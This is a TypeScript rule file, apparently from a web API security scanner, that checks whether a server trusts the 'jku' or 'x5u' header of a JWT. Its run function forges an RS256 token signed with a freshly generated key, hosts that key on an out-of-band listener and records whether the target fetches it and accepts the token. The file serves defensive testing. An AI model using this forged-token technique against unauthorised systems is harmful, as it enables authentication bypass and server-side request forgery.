import { generateKeyPairSync } from 'node:crypto'
import { defineRule, isAccepted, sendWithToken, signJwtRs256, toJson, tokenHolder } from '../../rule/index.ts'
import type { JsonObject } from '../../rule/index.ts'

/** The header names the listener as the place of the keys (RFC 7515 §4.1.2). A call is a fault already; an accepted token is the whole of it. */
export default defineRule({
  id: 'jwt-key-url',
  title: 'Keys are fetched from the address that a token names',
  severity: 'high',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N',
  cwe: [347, 918],
  owasp: 'API2:2023',
  why: 'The token says where its key is to be fetched, and the server goes there. An attacker offers a key of their own, and makes the server call any address inside the network.',
  fix: 'Fetch keys from the configured issuer only, and ignore `jku` and `x5u` in headers.',
  controls: ['authentication', 'network-security'],
  references: ['https://www.rfc-editor.org/rfc/rfc7515#section-4.1.2'],
  report: 'host',
  needs: { identities: 1, baseline: 'works', oob: true },
  applies: ({ requiresAuth }) => (requiresAuth ? true : 'does not require credentials'),
  run: async (context) => {
    const holder = tokenHolder(context)
    const { oob } = context
    if (holder === undefined || oob === undefined) return
    const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
    const kid = `hf${context.unique()}`
    const jwk = { ...publicKey.export({ format: 'jwk' }), kid, use: 'sig', alg: 'RS256' }
    for (const name of ['jku', 'x5u'] as const) {
      const place = oob.newToken()
      oob.serve(place, {
        status: 200,
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ keys: [toJson(jwk)] }),
      })
      const header: JsonObject = { ...holder.jwt.header, alg: 'RS256', kid, [name]: oob.url(place) }
      const token = signJwtRs256(header, holder.jwt.claims, privateKey)
      const exchange = await sendWithToken(context, holder, token)
      const accepted = isAccepted(exchange, holder)
      context.expectCall(place, 'any', (hits) => ({
        message: `The server fetches ${name} of a token: ${hits[0]?.detail ?? ''}${accepted ? ', and accepts the token signed with the key that it got there' : ''}.`,
        confidence: 'certain',
        severity: accepted ? 'critical' : 'high',
        evidence: [{ label: `token that names its keys with ${name}`, exchange }],
      }))
      if (oob.hitsOf(place).length > 0) return
    }
  },
})
